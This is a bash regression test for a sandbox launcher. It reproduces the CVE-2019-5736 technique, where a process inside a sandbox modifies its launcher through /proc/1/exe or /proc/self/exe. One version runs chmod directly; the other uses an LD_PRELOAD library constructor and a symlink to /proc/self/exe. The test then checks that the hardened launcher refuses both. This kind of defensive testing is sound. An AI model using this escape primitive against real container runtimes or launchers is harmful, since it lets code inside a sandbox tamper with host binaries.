#!/usr/bin/env bash
# promise: a launcher that belongs to its user is not changed from inside, by no process that runs it (CVE-2019-5736, CVE-2019-8308)
# SPDX-License-Identifier: Apache-2.0
source "$LIB"
source "$SOURCE/promises/careless.bash"

mkdir tools && cp "$(type -P bwrap)" tools/bwrap && cp "$SANDBOX" tools/sandbox && chmod 755 tools/*
mode() { stat -c %a "tools/$1"; }

# By the first process.
CARELESS_LAUNCHER=$WORK/tools/bwrap works 'careless: the mode of the first process'"'"'s program can be changed' \
  careless --unshare-pid -- "$PROBE" chmod 0777 /proc/1/exe
same 777 "$(mode bwrap)" '    and everybody can write the launcher'
chmod 755 tools/bwrap
mine=("$WORK/tools/sandbox" -p base --ro "$PROBE")
refused_with 'EACCES|EPERM' 'by default it cannot' "${mine[@]}" -- "$PROBE" chmod 0777 /proc/1/exe
same 755 "$(mode sandbox)" '    and the launcher is as before'

# By a command that is a link to whatever executes it, with a library that runs there: CVE-2019-5736 as it was found.
mkdir project && ln -s /proc/self/exe project/tool
cat >library.c <<'T'
#include <sys/stat.h>
__attribute__((constructor)) static void attack(void) { chmod("/proc/self/exe", 0777); }
T
gcc -shared -fPIC -o project/library.so library.c
cd project || exit
CARELESS_LAUNCHER=$WORK/tools/bwrap careless --unshare-pid --bind "$WORK/project" "$WORK/project" \
  --setenv LD_PRELOAD "$WORK/project/library.so" -- ./tool --version >/dev/null
same 777 "$(cd .. && mode bwrap)" 'careless: a command that is the launcher itself runs what the project says'
capture "${mine[@]}" --rw "$WORK/project" --env "LD_PRELOAD=$WORK/project/library.so" -- ./tool --version
if ! landlock_version_at_least 1 && readelf -lW ../tools/sandbox | grep -q INTERP; then
  # The second fence keeps it from being executed; and the released launcher is static, and loads no library.
  echo 'skip  by default: this launcher has a loader, and this kernel has no Landlock'
else
  same 755 "$(cd .. && mode sandbox)" 'by default that changes nothing'
fi
